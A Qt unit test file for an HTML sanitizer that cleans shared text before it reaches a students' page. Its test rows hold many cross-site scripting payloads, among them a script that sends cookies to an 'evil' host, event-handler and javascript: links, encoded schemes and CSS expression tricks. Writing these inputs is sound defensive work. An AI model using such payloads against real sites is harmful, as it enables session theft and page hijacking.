// Texts from other people's files cleaned before they reach the students'
// page: what a hostile or broken text keeps, and how many things it loses.
#include "exchange/htmlclean.h"

#include <QTest>

using namespace tess::exchange;

class TestHtmlClean : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void hostile_data();
    void hostile();
    void harmlessKeptAsWritten_data();
    void harmlessKeptAsWritten();
    void plainNames_data();
    void plainNames();
    void hugeAndDeepTextsFinish_data();
    void hugeAndDeepTextsFinish();
};

void TestHtmlClean::hostile_data() {
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<int>("removed");

    // The three that a colleague's file brought onto a page.
    QTest::newRow("script sending the cookies")
        << QStringLiteral("<p>1+1=?<script>fetch('http://evil/'+document.cookie)</script></p>")
        << QStringLiteral("<p>1+1=?</p>") << 1;
    QTest::newRow("picture with an error handler")
        << QStringLiteral("<img src=\"x\" onerror=\"alert(2)\">")
        << QStringLiteral("<img src=\"x\">") << 1;
    QTest::newRow("script link") << QStringLiteral("<a href=\"javascript:alert(3)\">看</a>")
                                 << QStringLiteral("<a>看</a>") << 1;

    QTest::newRow("upper and mixed case")
        << QStringLiteral("a<SCRIPT>alert(1)</SCRIPT>b<ScRiPt src=//evil></sCrIpT >c")
        << QStringLiteral("abc") << 2;
    QTest::newRow("handler without quotes, upper case")
        << QStringLiteral("<B ONMOUSEOVER=alert(1) title=t>x</B>")
        << QStringLiteral("<B title=\"t\">x</B>") << 1;
    QTest::newRow("handler after a slash")
        << QStringLiteral("<img/src=x.png/onload=alert(1)>")
        << QStringLiteral("<img/src=x.png/onload=alert(1)>") << 0;
    QTest::newRow("handler after a slash and a blank")
        << QStringLiteral("<img src=x.png/ onload=alert(1)>")
        << QStringLiteral("<img src=\"x.png/\">") << 1;
    QTest::newRow("entity-encoded scheme")
        << QStringLiteral("<a href=\"jav&#x61;script:alert(1)\">a</a>"
                          "<a href=\"javascript&colon;alert(1)\">b</a>"
                          "<a href=\"&#106;&#0000097vascript:alert(1)\">c</a>")
        << QStringLiteral("<a>a</a><a>b</a><a>c</a>") << 3;
    QTest::newRow("blanks and controls inside the scheme")
        << QStringLiteral(
               "<a href=\" java\tscript:alert(1)\">a</a><a href=\"java&Tab;script:x\">b</a>")
        << QStringLiteral("<a>a</a><a>b</a>") << 2;
    QTest::newRow("vbscript and data links")
        << QStringLiteral("<a href=vbscript:msgbox(1)>a</a><a "
                          "href=\"data:text/html,<script>x</script>\">b</a>")
        << QStringLiteral("<a>a</a><a>b</a>") << 2;
    QTest::newRow("data picture that is no picture")
        << QStringLiteral("<img src=\"data:text/html;base64,PHNjcmlwdD4=\" alt=a>")
        << QStringLiteral("<img alt=\"a\">") << 1;
    QTest::newRow("tag split around a script")
        << QStringLiteral("<scr<script>ipt>alert(1)</script>") << QStringLiteral("ipt>alert(1)")
        << 0;
    QTest::newRow("less-than before a script")
        << QStringLiteral("<<script>alert(1)</script>") << QStringLiteral("&lt;") << 1;
    QTest::newRow("nested frames and objects")
        << QStringLiteral("<iframe src=\"http://evil\"><iframe></iframe>x</iframe>"
                          "<object data=\"a.swf\"><embed src=\"a.swf\"></object>y")
        << QStringLiteral("xy") << 2;
    QTest::newRow("form and its controls")
        << QStringLiteral(
               "<form action=\"http://evil\"><input name=a><button>发送</button>"
               "<select><option>甲</option></select><textarea><b>t</b></textarea></form>")
        << QStringLiteral("发送甲") << 6;
    QTest::newRow("head elements")
        << QStringLiteral(
               "<meta http-equiv=\"refresh\" content=\"0;url=http://evil\">"
               "<link rel=stylesheet href=\"http://evil/a.css\"><base href=\"http://evil/\">"
               "<style>body{display:none}</style>问")
        << QStringLiteral("问") << 4;
    QTest::newRow("markup of other kinds")
        << QStringLiteral(
               "<svg><script>alert(1)</script></svg><math><mi>x</mi></math>"
               "<template><img src=x onerror=alert(1)></template><noscript>n</noscript>z")
        << QStringLiteral("z") << 4;
    QTest::newRow("styles that load or compute")
        << QStringLiteral("<span style=\"background:url(http://evil/a.png)\">a</span>"
                          "<span style=\"width:expression(alert(1))\">b</span>"
                          "<span style=\"w:e\\78pression(alert(1))\">c</span>"
                          "<span style=\"background:u/**/rl(x)\">d</span>"
                          "<span style=\"color:rgb(255,0,0)\">e</span>")
        << QStringLiteral("<span>a</span><span>b</span><span>c</span><span>d</span>"
                          "<span style=\"color:rgb(255,0,0)\">e</span>")
        << 4;
    QTest::newRow("attributes that are not kept")
        << QStringLiteral("<p id=\"score\" class=\"MsoNormal\" name=x>p</p>")
        << QStringLiteral("<p>p</p>") << 0;
    QTest::newRow("unknown tags go, their text stays")
        << QStringLiteral("<html><body><o:p>a</o:p><blink>b</blink></body></html>")
        << QStringLiteral("ab") << 0;
    QTest::newRow("comments, declarations, CDATA")
        << QStringLiteral("<!DOCTYPE html><?xml version=\"1.0\"?>a<!-- <script>x</script> -->b"
                          "<![CDATA[<script>y</script>]]>c<!-->d")
        << QStringLiteral("abcd") << 0;
    QTest::newRow("conditional comment")
        << QStringLiteral("<!--[if IE]><script>alert(1)</script><![endif]-->x")
        << QStringLiteral("x") << 0;
    QTest::newRow("comment left open hides the rest")
        << QStringLiteral("<b>a</b><!-- <script>alert(1)</script>") << QStringLiteral("<b>a</b>")
        << 0;
    QTest::newRow("script left open takes the rest")
        << QStringLiteral("<p>a<script>alert(1)</p>") << QStringLiteral("<p>a</p>") << 1;
    QTest::newRow("tag left open becomes text")
        << QStringLiteral("a <b title=\"x>y <script>alert(1)</script>")
        << QStringLiteral("a &lt;b title=\"x>y &lt;script>alert(1)&lt;/script>") << 0;
    QTest::newRow("stray less-than signs")
        << QStringLiteral("1 < 2, 3<=4, a<\n, <3 x<")
        << QStringLiteral("1 &lt; 2, 3&lt;=4, a&lt;\n, &lt;3 x&lt;") << 0;
    QTest::newRow("elements left open are closed at the end")
        << QStringLiteral("<table><tr><td><b>a")
        << QStringLiteral("<table><tr><td><b>a</b></td></tr></table>") << 0;
    QTest::newRow("table parts outside a table go")
        << QStringLiteral("a</td><td>b<tr><th>c<table><tr><td>d</td></tr></table>")
        << QStringLiteral("abc<table><tr><td>d</td></tr></table>") << 0;
    QTest::newRow("end tags of nothing open go")
        << QStringLiteral("</div></td>a</b>") << QStringLiteral("a") << 0;
    QTest::newRow("an end tag closes what is open inside it")
        << QStringLiteral("<div><b><i>a</div>b") << QStringLiteral("<div><b><i>a</i></b></div>b")
        << 0;
    QTest::newRow("handlers on dropped tags are counted")
        << QStringLiteral("<body onload=alert(1)>a<marquee onstart=alert(2)>b</marquee>")
        << QStringLiteral("ab") << 2;
    QTest::newRow("links outside a and pictures outside img go")
        << QStringLiteral("<img href=\"http://a\" src=\"p.png\"><a src=\"javascript:x\" "
                          "href=\"https://b\">b</a>")
        << QStringLiteral("<img src=\"p.png\"><a href=\"https://b\">b</a>") << 1;
    QTest::newRow("media that fetch")
        << QStringLiteral("<video src=\"http://evil/v\"><source src=x></video>v")
        << QStringLiteral("v") << 2;
}

void TestHtmlClean::hostile() {
    QFETCH(QString, html);
    QFETCH(QString, expected);
    QFETCH(int, removed);
    const CleanedText cleaned = cleanHtml(html);
    QCOMPARE(cleaned.text, expected);
    QCOMPARE(cleaned.removed, removed);
    // Cleaning what is clean changes nothing.
    const CleanedText again = cleanHtml(cleaned.text);
    QCOMPARE(again.text, cleaned.text);
    QCOMPARE(again.removed, 0);
}

void TestHtmlClean::harmlessKeptAsWritten_data() {
    QTest::addColumn<QString>("html");

    QTest::newRow("formatting") << QStringLiteral(
        "<p align=center><b>粗</b> <I>斜</I> <u>下</u> <em>e</em> <strong>s</strong> "
        "H<sub>2</sub>O x<SUP>2</SUP> <font color=\"#ff0000\" face='宋体' size=3>红</font> "
        "<span style=\"color: #008000; font-weight: bold\">绿</span><br/>下一行<br></p>");
    QTest::newRow("lists and headings")
        << QStringLiteral("<h1>一</h1><h6>六</h6><ul><li>a</li><li>b</li></ul>"
                          "<ol start=3 type=\"a\"><li>c</li></ol><hr><pre>x  y</pre>"
                          "<code>f()</code><blockquote>q</blockquote><div dir=rtl>d</div>");
    QTest::newRow("table") << QStringLiteral(
        "<table border=\"1\" cellpadding=\"2\" width=\"80%\"><caption>表</caption><thead>"
        "<tr><th colspan=2>h</th></tr></thead><tbody><tr><td valign=top>1</td>"
        "<td bgcolor=\"#eeeeee\" rowspan='1'>2</td></tr></tbody></table>");
    QTest::newRow("pictures in every allowed form") << QStringLiteral(
        "<IMG SRC=\"images\\map 1.jpg\" width=\"30\" height=\"20\" alt=\"地图\">"
        "<img src=\"pics/a.png\"><img src='http://example.org/a.gif' /><img "
        "src=\"https://example.org/b.png\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">"
        "<img src=\"C:\\Users\\t\\a.png\">");
    QTest::newRow("links") << QStringLiteral(
        "<a href=\"http://example.org/?a=1&amp;b=2\" title=\"例\">w</a> "
        "<a href=https://example.org>s</a> <a href=\"mailto:t@example.org\">m</a>");
    QTest::newRow("text with entities and greater-than signs")
        << QStringLiteral("3 &gt; 2 &amp;&amp; 2 > 1 &lt;script&gt; &nbsp;&#25105;");
    QTest::newRow("paragraphs left to the browser to close")
        << QStringLiteral("<p>one<p>two</p><ul><li>a<li>b</ul><table><tr><td>1<td>2</table>");
}

void TestHtmlClean::harmlessKeptAsWritten() {
    QFETCH(QString, html);
    const CleanedText cleaned = cleanHtml(html);
    QCOMPARE(cleaned.text, html);
    QCOMPARE(cleaned.removed, 0);
}

void TestHtmlClean::plainNames_data() {
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<int>("removed");

    QTest::newRow("plain") << QStringLiteral("第一单元 A&B <3") << QStringLiteral("第一单元 A&B <3")
                           << 0;
    QTest::newRow("formatting goes")
        << QStringLiteral("<b>期中</b> <i>测验</i>") << QStringLiteral("期中 测验") << 0;
    QTest::newRow("script goes with its content")
        << QStringLiteral("期末<script>alert(1)</script><img src=x onerror=alert(2)>")
        << QStringLiteral("期末") << 2;
    QTest::newRow("tag left open stays as text that opens no tag")
        << QStringLiteral("a <b title=\"x <3 <img src=x onerror=alert(1) ")
        << QStringLiteral("a ＜b title=\"x <3 ＜img src=x onerror=alert(1) ") << 0;
}

void TestHtmlClean::plainNames() {
    QFETCH(QString, text);
    QFETCH(QString, expected);
    QFETCH(int, removed);
    const CleanedText cleaned = plainText(text);
    QCOMPARE(cleaned.text, expected);
    QCOMPARE(cleaned.removed, removed);
}

void TestHtmlClean::hugeAndDeepTextsFinish_data() {
    QTest::addColumn<QString>("html");
    QTest::addColumn<int>("removed");
    QTest::addColumn<QString>("ending");

    const int n = 200000;
    QTest::newRow("deeply nested tables")
        << QStringLiteral("<table><tr><td>").repeated(n) + QStringLiteral("x") << 0
        << QStringLiteral("</td></tr></table>");
    QTest::newRow("many open quotes")
        << QStringLiteral("<a title=\"").repeated(n) << 0 << QStringLiteral("&lt;a title=\"");
    QTest::newRow("many scripts never closed")
        << QStringLiteral("<script>").repeated(n) + QStringLiteral("end") << 1 << QString();
    QTest::newRow("many end tags of something else")
        << QStringLiteral("<style></stylex").repeated(n) << 1 << QString();
    QTest::newRow("many handlers")
        << QStringLiteral("<b onclick=x>b</b>").repeated(n) << n << QStringLiteral("<b>b</b>");
    QTest::newRow("many comment starts")
        << QStringLiteral("a<!-").repeated(n) << 0 << QStringLiteral("a");
    QTest::newRow("many less-than signs")
        << QStringLiteral("<").repeated(n) << 0 << QStringLiteral("&lt;");
}

void TestHtmlClean::hugeAndDeepTextsFinish() {
    QFETCH(QString, html);
    QFETCH(int, removed);
    QFETCH(QString, ending);
    const CleanedText cleaned = cleanHtml(html);
    QCOMPARE(cleaned.removed, removed);
    QVERIFY(cleaned.text.endsWith(ending));
    // Nesting is flattened well before the browser's or the printer's limits.
    QVERIFY(cleaned.text.count(QStringLiteral("<table>")) <= 200);
}

QTEST_GUILESS_MAIN(TestHtmlClean)
#include "tst_htmlclean.moc"
